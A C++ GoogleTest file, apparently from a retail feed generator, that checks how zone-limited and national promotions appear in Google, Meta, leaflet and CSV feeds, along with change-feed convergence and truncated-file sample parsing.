// --------------------------------------------------------------------------------------------
// Promotions that hold in some stores only never reach the national items.

// Four stores: two in IDF, two in SUD, one of these in Martinique. Every product has a
// national price, except P-LOCAL, priced in three stores only (not S-SUD2).
//   - P-ZONE: a campaign limited to IDF, −30 %.
//   - P-NAT: a national campaign, −20 % everywhere on each store's wall clock.
//   - P-LOCAL: −10 % in the three stores that sell it.
//   - P-MIX: −20 % everywhere, but at another shelf price in SUD (a zone price).
class ZoneLimitedFeedsTest : public ::testing::Test {
 protected:
  struct Spec {
    std::string product;
    int64_t regular_cents;
    std::map<std::string, int64_t> shelf_by_store;
    std::string promotion_id;
  };

  void SetUp() override {
    std::vector<Store> stores;
    for (const auto& [id, zone, tz] :
         {std::tuple{"S-IDF1", "IDF", "Europe/Paris"}, std::tuple{"S-IDF2", "IDF", "Europe/Paris"},
          std::tuple{"S-SUD1", "SUD", "Europe/Paris"},
          std::tuple{"S-SUD2", "SUD", "America/Martinique"}}) {
      Store s;
      s.id = id;
      s.name = id;
      s.price_zone = zone;
      s.timezone = tz;
      stores.push_back(s);
    }
    ASSERT_TRUE(db_.PutStores(stores, kNow).ok());
    std::vector<Product> products;
    std::vector<Price> prices;
    for (const char* id : {"P-ZONE", "P-NAT", "P-LOCAL", "P-MIX"}) {
      Product p;
      p.id = id;
      p.title = std::string("Produit ") + id;
      p.brand = "Vitrine";
      p.image_url = "https://img.example/" + std::string(id) + ".jpg";
      products.push_back(p);
      if (p.id == "P-LOCAL") {
        for (const char* store : {"S-IDF1", "S-IDF2", "S-SUD1"}) {
          prices.push_back(
              {id, PriceLevel::kStore, store, Money::Euros(1000), kNow - std::chrono::days(60)});
        }
      } else {
        prices.push_back(
            {id, PriceLevel::kNational, "", Money::Euros(1000), kNow - std::chrono::days(60)});
      }
    }
    ASSERT_TRUE(db_.PutProducts(products, kNow).ok());
    ASSERT_TRUE(db_.PutPrices(prices).ok());

    Campaign campaign;
    campaign.name = "Foire aux vins";
    campaign.start_local = LocalTime(std::chrono::seconds(ToUnixSeconds(kNow) - 86400));
    campaign.end_local = LocalTime(std::chrono::seconds(ToUnixSeconds(kNow) + 6 * 86400));
    campaign.channels = {"google", "meta", "leaflet"};
    campaign.status = CampaignStatus::kApproved;
    auto created = db_.CreateCampaign(campaign, kNow);
    ASSERT_TRUE(created.ok());
    const std::map<std::string, int> percent = {
        {"P-ZONE", 30}, {"P-NAT", 20}, {"P-LOCAL", 10}, {"P-MIX", 20}};
    std::map<std::string, std::string> promotion_of;
    for (const auto& [product, pct] : percent) {
      Promotion promotion;
      promotion.campaign_id = created->id;
      promotion.selector.product_ids = {product};
      promotion.mechanic = PercentOff{pct};
      auto p = db_.CreatePromotion(promotion);
      ASSERT_TRUE(p.ok());
      promotion_of[product] = p->id;
    }
    const std::map<std::string, std::map<std::string, int64_t>> shelf = {
        {"P-ZONE", {{"S-IDF1", 700}, {"S-IDF2", 700}}},
        {"P-NAT", {{"S-IDF1", 800}, {"S-IDF2", 800}, {"S-SUD1", 800}, {"S-SUD2", 800}}},
        {"P-LOCAL", {{"S-IDF1", 900}, {"S-IDF2", 900}, {"S-SUD1", 900}}},
        {"P-MIX", {{"S-IDF1", 800}, {"S-IDF2", 800}, {"S-SUD1", 760}, {"S-SUD2", 760}}},
    };
    std::vector<PublishedOffer> offers;
    std::vector<std::string> promotion_ids;
    for (const auto& [product, by_store] : shelf) {
      promotion_ids.push_back(promotion_of.at(product));
      for (const auto& [store_id, cents] : by_store) {
        const Store& store = *std::find_if(stores.begin(), stores.end(),
                                           [&](const Store& s) { return s.id == store_id; });
        auto zone = TimeZone::Locate(store.timezone);
        ASSERT_TRUE(zone.ok());
        PublishedOffer o;
        o.offer_id = promotion_of.at(product) + "~" + product;
        o.store_id = store_id;
        o.campaign_id = created->id;
        o.promotion_id = promotion_of.at(product);
        o.product_id = product;
        o.channels = {"google", "leaflet", "meta"};
        o.validity = ValidityIn(campaign, *zone);
        o.timezone = store.timezone;
        o.regular_price = Money::Euros(1000);
        o.shelf_price = Money::Euros(cents);
        o.effective_unit_price = o.shelf_price;
        o.mechanic = "percent_off";
        o.mechanic_parameters = {{"percent", percent.at(product)}};
        o.badge = "-" + std::to_string(percent.at(product)) + "%";
        o.headline = "Prix en promotion";
        o.legal = "Prix de référence : 10,00 €";
        o.stock_quantity = 10;
        o.availability = Availability::kInStock;
        o.content_hash = ContentHash(o);
        offers.push_back(o);
      }
    }
    ASSERT_TRUE(db_.ReplaceOffers({promotion_ids, {}, {}}, offers).ok());
    promotion_of_ = promotion_of;
  }

  std::map<std::string, testing::FeedItem> ItemsById(const Written& w, const std::string& key) {
    std::map<std::string, testing::FeedItem> by_id;
    for (auto& item : ReadRssItems(w.path)) by_id[First(item, key)] = item;
    return by_id;
  }

  MemoryDatabase db_;
  FeedSources sources_{&db_, &db_, &db_};
  std::map<std::string, std::string> promotion_of_;
  testing::TempDir dir_;
};

TEST_F(ZoneLimitedFeedsTest, NationalItemsCarryOnlyASalePriceEveryStoreHas) {
  for (FeedFormat format : {FeedFormat::kGoogleProducts, FeedFormat::kMetaCatalog}) {
    SCOPED_TRACE(InfoOf(format).name);
    const Written w = Write(format, sources_, dir_.path(), kNow);
    ExpectValid(format, w);
    auto items = ItemsById(w, "g:id");
    ASSERT_EQ(items.size(), 4u);
    // Limited to IDF: regular price only, as in SUD.
    EXPECT_EQ(items.at("P-ZONE").count("g:sale_price"), 0u);
    EXPECT_EQ(items.at("P-ZONE").count("g:sale_price_effective_date"), 0u);
    EXPECT_EQ(First(items.at("P-ZONE"), "g:price"), "10.00 EUR");
    // Every store, Martinique included on its own clock.
    EXPECT_EQ(First(items.at("P-NAT"), "g:sale_price"), "8.00 EUR");
    // The store that has no offer does not sell the product.
    EXPECT_EQ(First(items.at("P-LOCAL"), "g:sale_price"), "9.00 EUR");
    // A promotion everywhere, but not at one price.
    EXPECT_EQ(items.at("P-MIX").count("g:sale_price"), 0u);
  }
  // A feed narrowed to one IDF store is that store's view: its sale price is true there.
  const Written idf = Write(FeedFormat::kGoogleProducts, sources_, dir_.path(), kNow, "S-IDF1");
  EXPECT_EQ(First(ItemsById(idf, "g:id").at("P-ZONE"), "g:sale_price"), "7.00 EUR");
  // The per-store sale prices still reach Google through the local inventory.
  const Written inventory = Write(FeedFormat::kGoogleLocalInventory, sources_, dir_.path(), kNow);
  std::map<std::string, std::string> zone_sale_by_store;
  for (auto& item : ReadRssItems(inventory.path)) {
    if (First(item, "g:id") == "P-ZONE") {
      zone_sale_by_store[First(item, "g:store_code")] = First(item, "g:sale_price");
    }
  }
  EXPECT_EQ(zone_sale_by_store,
            (std::map<std::string, std::string>{{"S-IDF1", "7.00 EUR"}, {"S-IDF2", "7.00 EUR"}}));
}

TEST_F(ZoneLimitedFeedsTest, PromotionsNameTheStoresTheyHoldIn) {
  const Written w = Write(FeedFormat::kGooglePromotions, sources_, dir_.path(), kNow);
  ExpectValid(FeedFormat::kGooglePromotions, w);
  auto items = ItemsById(w, "g:promotion_id");
  ASSERT_EQ(items.size(), 4u);
  auto values = [](const testing::FeedItem& item, const std::string& name) {
    std::vector<std::string> out;
    for (auto [it, end] = item.equal_range(name); it != end; ++it) out.push_back(it->second);
    return out;
  };
  using Codes = std::vector<std::string>;
  const auto& zone = items.at(promotion_of_.at("P-ZONE"));
  EXPECT_EQ(First(zone, "g:store_applicability"), "specific_stores");
  EXPECT_EQ(values(zone, "g:store_codes_inclusion"), (Codes{"S-IDF1", "S-IDF2"}));
  EXPECT_EQ(zone.count("g:store_codes_exclusion"), 0u);
  // Restricted to some stores: local inventory ads only, the free listings being national.
  EXPECT_EQ(values(zone, "g:promotion_destination"), (Codes{"Local_inventory_ads"}));
  // Three stores of four: the shorter list, the store left out.
  const auto& local = items.at(promotion_of_.at("P-LOCAL"));
  EXPECT_EQ(First(local, "g:store_applicability"), "specific_stores");
  EXPECT_EQ(values(local, "g:store_codes_exclusion"), (Codes{"S-SUD2"}));
  EXPECT_EQ(local.count("g:store_codes_inclusion"), 0u);
  const auto& national = items.at(promotion_of_.at("P-NAT"));
  EXPECT_EQ(First(national, "g:store_applicability"), "all_stores");
  EXPECT_EQ(national.count("g:store_codes_inclusion") + national.count("g:store_codes_exclusion"),
            0u);
  EXPECT_EQ(values(national, "g:promotion_destination"),
            (Codes{"Local_inventory_ads", "Free_listings"}));
}

TEST_F(ZoneLimitedFeedsTest, LeafletGroupsStoresByPriceAndListsOnlyTheCampaignsStores) {
  const Written w = Write(FeedFormat::kLeafletJson, sources_, dir_.path(), kNow);
  ExpectValid(FeedFormat::kLeafletJson, w);
  std::ifstream in(w.path);
  const nlohmann::json leaflet = nlohmann::json::parse(in);
  ASSERT_EQ(leaflet["campaigns"].size(), 1u);
  std::map<std::string, std::set<std::string>> stores_by_price;  // "P-MIX 8.00 EUR" → stores
  for (const auto& offer : leaflet["campaigns"][0]["offers"]) {
    const std::string key =
        offer["product_id"].get<std::string>() + " " + offer["prices"]["shelf"].get<std::string>();
    for (const auto& store : offer["stores"]) stores_by_price[key].insert(store);
  }
  using Stores = std::set<std::string>;
  EXPECT_EQ(stores_by_price.at("P-ZONE 7.00 EUR"), (Stores{"S-IDF1", "S-IDF2"}));
  EXPECT_EQ(stores_by_price.at("P-MIX 8.00 EUR"), (Stores{"S-IDF1", "S-IDF2"}));
  EXPECT_EQ(stores_by_price.at("P-MIX 7.60 EUR"), (Stores{"S-SUD1", "S-SUD2"}));
  EXPECT_EQ(stores_by_price.at("P-LOCAL 9.00 EUR"), (Stores{"S-IDF1", "S-IDF2", "S-SUD1"}));
}

// --------------------------------------------------------------------------------------------
// The demo retailer: every format validated, every Google item checked.

class DemoFeedsTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dir_ = new testing::TempDir();
    const std::string command =
        std::string(VITRINE_BINARY) + " demo --db sqlite:" + dir_->File("demo.db") + " --out " +
        dir_->File("demo") + " --no-packshots --now 2026-11-24T09:00:00Z > " +
        dir_->File("demo.log") + " 2>&1";
    ASSERT_EQ(std::system(command.c_str()), 0) << "vitrine demo failed; see its log";
    auto db = SqliteDatabase::Open(dir_->File("demo.db"));
    ASSERT_TRUE(db.ok()) << db.status().ToString();
    db_ = db->release();
  }
  static void TearDownTestSuite() {
    delete db_;
    delete dir_;
  }

  static inline testing::TempDir* dir_ = nullptr;
  static inline SqliteDatabase* db_ = nullptr;
  const Instant now_ = *ParseInstant("2026-11-24T09:00:00Z");
};

TEST_F(DemoFeedsTest, EveryFormatValidatesAgainstItsSchema) {
  ASSERT_NE(db_, nullptr);
  FeedSources sources{db_, db_, db_};
  std::map<FeedFormat, Written> written;
  for (const FeedFormatInfo& info : AllFeedFormats()) {
    SCOPED_TRACE(info.name);
    written[info.format] = Write(info.format, sources, dir_->path(), now_);
    ExpectValid(info.format, written[info.format]);
  }
  EXPECT_GT(written[FeedFormat::kGoogleProducts].stats.items, 100);
  EXPECT_GT(written[FeedFormat::kGoogleLocalInventory].stats.items, 10000);
  EXPECT_GT(written[FeedFormat::kGooglePromotions].stats.items, 0);
  EXPECT_GT(written[FeedFormat::kMetaCatalog].stats.items, 100);
  EXPECT_GT(written[FeedFormat::kLeafletJson].stats.items, 0);
  EXPECT_GT(written[FeedFormat::kOffersCsv].stats.items, 10000);
  ExpectGoogleRules(written[FeedFormat::kGoogleProducts].path,
                    written[FeedFormat::kGoogleLocalInventory].path,
                    written[FeedFormat::kGooglePromotions].path);
}

TEST_F(DemoFeedsTest, StoreAndCampaignVariantsValidate) {
  ASSERT_NE(db_, nullptr);
  FeedSources sources{db_, db_, db_};
  auto stores = db_->ListAllStores();
  ASSERT_TRUE(stores.ok());
  CampaignQuery query;
  query.status = CampaignStatus::kApproved;
  auto campaigns = db_->ListCampaigns(query);
  ASSERT_TRUE(campaigns.ok());
  ASSERT_FALSE(campaigns->items.empty());
  for (FeedFormat format : {FeedFormat::kLeafletJson, FeedFormat::kLeafletXml,
                            FeedFormat::kGoogleLocalInventory, FeedFormat::kGoogleProducts}) {
    const Written by_store = Write(format, sources, dir_->path(), now_, stores->front().id);
    ExpectValid(format, by_store);
    const Written by_campaign =
        Write(format, sources, dir_->path(), now_, "", campaigns->items.front().id);
    ExpectValid(format, by_campaign);
  }
}

// --------------------------------------------------------------------------------------------
// A platform following the change feed while offers change ends where a fresh feed is.

TEST(ChangeFeedClientTest, FinalStateEqualsAFreshFullFeed) {
  testing::TempDir dir;
  auto opened = SqliteDatabase::Open(dir.File("offers.db"));
  ASSERT_TRUE(opened.ok());
  SqliteDatabase& db = **opened;
  Store store;
  store.id = "S1";
  store.price_zone = "Z1";
  ASSERT_TRUE(db.PutStores(std::vector<Store>{store}, kNow).ok());
  Campaign campaign;
  campaign.name = "Change feed";
  campaign.start_local = LocalTime(std::chrono::seconds(ToUnixSeconds(kNow)));
  campaign.end_local = LocalTime(std::chrono::seconds(ToUnixSeconds(kNow) + 86400 * 7));
  campaign.channels = {"csv"};
  campaign.status = CampaignStatus::kApproved;
  auto c = db.CreateCampaign(campaign, kNow);
  ASSERT_TRUE(c.ok());

  auto make_offer = [&](int product, int round) {
    PublishedOffer o;
    o.offer_id = "PR1~P" + std::to_string(product);
    o.store_id = "S1";
    o.campaign_id = c->id;
    o.promotion_id = "PR1";
    o.product_id = "P" + std::to_string(product);
    o.channels = {"csv"};
    o.validity = {kNow, kNow + std::chrono::hours(100)};
    o.timezone = "Europe/Paris";
    o.regular_price = Money::Euros(500);
    o.shelf_price = Money::Euros(300 + (product * 7 + round) % 150);
    o.effective_unit_price = o.shelf_price;
    o.mechanic = "fixed_price";
    o.badge = "Prix choc";
    o.content_hash = ContentHash(o);
    return o;
  };

  std::atomic<bool> done{false};
  std::thread writer([&] {
    for (int round = 0; round < 40; ++round) {
      std::vector<PublishedOffer> offers;
      // Each round keeps a shifting window of products: some appear, some are tombstoned.
      for (int p = round % 7; p < 60 + round % 11; p += 1 + round % 3) {
        offers.push_back(make_offer(p, round));
      }
      ASSERT_TRUE(db.ReplaceOffers({{"PR1"}, {}, {}}, offers).ok());
    }
    done = true;
  });
  std::map<std::string, std::string> client;  // offer key → shelf price, as the client sees it
  int64_t since = 0;
  auto pull = [&] {
    for (;;) {
      auto changes = db.ListChanges(since, 50, "csv");
      ASSERT_TRUE(changes.ok());
      if (changes->empty()) return;
      for (const OfferChange& change : *changes) {
        const std::string key = change.offer_id + "|" + change.store_id;
        if (change.deleted) {
          client.erase(key);
        } else {
          client[key] = change.offer->shelf_price.ToFeedString();
        }
        since = change.seq;
      }
    }
  };
  while (!done) pull();
  writer.join();
  pull();

  FeedSources sources{&db, &db, &db};
  const Written full = Write(FeedFormat::kOffersCsv, sources, dir.path(), kNow);
  std::ifstream in(full.path);
  CsvReader reader(in);
  std::map<std::string, std::string> fresh;
  bool header = true;
  CsvRecord record;
  while (reader.Next(&record)) {
    ASSERT_TRUE(record.ok());
    if (header) {
      header = false;
      continue;
    }
    // offer_id, store_id, ..., currency (12), regular (13), shelf (14)
    fresh[std::string(record.fields[0]) + "|" + std::string(record.fields[1])] =
        std::string(record.fields[14]) + " " + std::string(record.fields[12]);
  }
  EXPECT_FALSE(fresh.empty());
  EXPECT_EQ(client, fresh);
}

// --- Samples: the head of a snapshot, field by field -------------------------------------

namespace sample_test {

std::string Write(const testing::TempDir& dir, const std::string& name, const std::string& text) {
  const std::string path = dir.path() + "/" + name;
  std::ofstream(path, std::ios::binary) << text;
  return path;
}

std::vector<std::pair<std::string, std::string>> Fields(const FeedSampleItem& item) {
  std::vector<std::pair<std::string, std::string>> out;
  for (const FeedSampleField& f : item) out.emplace_back(f.name, f.value);
  return out;
}

TEST(FeedSampleTest, XmlItemsKeepTheirFieldsInOrderWithAttributesAndNesting) {
  testing::TempDir dir;
  const std::string path =
      Write(dir, "leaflet.xml",
            "<?xml version=\"1.0\"?>\n<leaflets><leaflet id=\"C1\"><offers>"
            "<offer id=\"PR1~P1\"><title>Caf&#233; &amp; th&#233;</title><prices><regular>2.00 EUR"
            "</regular><shelf>1.50 EUR</shelf></prices><empty/></offer>"
            "<offer id=\"PR1~P2\"><title><![CDATA[<b>]]></title></offer>"
            "<offer id=\"PR1~P3\"><title>third</title></offer>"
            "<broken");  // a limit of two never reads this far
  auto items = ReadFeedSample(FeedFormat::kLeafletXml, path, 2);
  ASSERT_TRUE(items.ok()) << items.status().ToString();
  ASSERT_EQ(items->size(), 2u);
  using Pairs = std::vector<std::pair<std::string, std::string>>;
  EXPECT_EQ(Fields((*items)[0]), (Pairs{{"@id", "PR1~P1"},
                                        {"title", "Café & thé"},
                                        {"prices/regular", "2.00 EUR"},
                                        {"prices/shelf", "1.50 EUR"}}));
  EXPECT_EQ(Fields((*items)[1]), (Pairs{{"@id", "PR1~P2"}, {"title", "<b>"}}));

  // Read further, the file is cut short: a writer bug, said as such.
  auto all = ReadFeedSample(FeedFormat::kLeafletXml, path, 10);
  ASSERT_FALSE(all.ok());
  EXPECT_EQ(all.status().code(), StatusCode::kInternal);
  EXPECT_NE(all.status().message().find("does not parse as XML"), std::string::npos);
}

TEST(FeedSampleTest, JsonOffersFlattenNestedValuesAndJoinArrays) {
  testing::TempDir dir;
  const std::string path =
      Write(dir, "leaflet.json",
            R"({"generated_at":"x","leaflets":[{"id":"C1","offers":[)"
            R"({"offer_id":"PR1~P1","prices":{"regular":"2.00 EUR","reference":null},)"
            R"("stores":["S1","S2"],"loyalty":false,"rank":1.5},)"
            R"({"offer_id":"PR1~P2"},{"offer_id":"PR1~P3"} oops)");
  auto items = ReadFeedSample(FeedFormat::kLeafletJson, path, 2);
  ASSERT_TRUE(items.ok()) << items.status().ToString();
  ASSERT_EQ(items->size(), 2u);
  using Pairs = std::vector<std::pair<std::string, std::string>>;
  EXPECT_EQ(Fields((*items)[0]), (Pairs{{"offer_id", "PR1~P1"},
                                        {"prices/regular", "2.00 EUR"},
                                        {"prices/reference", "null"},
                                        {"stores", "S1, S2"},
                                        {"loyalty", "false"},
                                        {"rank", "1.5"}}));
  auto all = ReadFeedSample(FeedFormat::kLeafletJson, path, 5);
  ASSERT_FALSE(all.ok());
  EXPECT_EQ(all.status().code(), StatusCode::kInternal);
}

TEST(FeedSampleTest, CsvRowsAreNamedByTheHeaderAndBadInputIsRefused) {
  testing::TempDir dir;
  const std::string path =
      Write(dir, "offers.csv", "offer_id,title\nPR1~P1,\"Lait, entier\"\nPR1~P2,Beurre\n");
  auto items = ReadFeedSample(FeedFormat::kOffersCsv, path, 5);
  ASSERT_TRUE(items.ok()) << items.status().ToString();
  ASSERT_EQ(items->size(), 2u);
  using Pairs = std::vector<std::pair<std::string, std::string>>;
  EXPECT_EQ(Fields((*items)[0]), (Pairs{{"offer_id", "PR1~P1"}, {"title", "Lait, entier"}}));

  auto gone = ReadFeedSample(FeedFormat::kOffersCsv, dir.path() + "/replaced.csv", 5);
  EXPECT_EQ(gone.status().code(), StatusCode::kNotFound);
  EXPECT_EQ(
      ReadFeedSample(FeedFormat::kGoogleProducts, dir.path() + "/none.xml", 5).status().code(),
      StatusCode::kNotFound);
  EXPECT_EQ(ReadFeedSample(FeedFormat::kOffersCsv, path, 0).status().code(),
            StatusCode::kInvalidArgument);
  EXPECT_EQ(ReadFeedSample(FeedFormat::kOffersCsv, path, 101).status().code(),
            StatusCode::kInvalidArgument);
}

}  // namespace sample_test

}  // namespace
}  // namespace vitrine
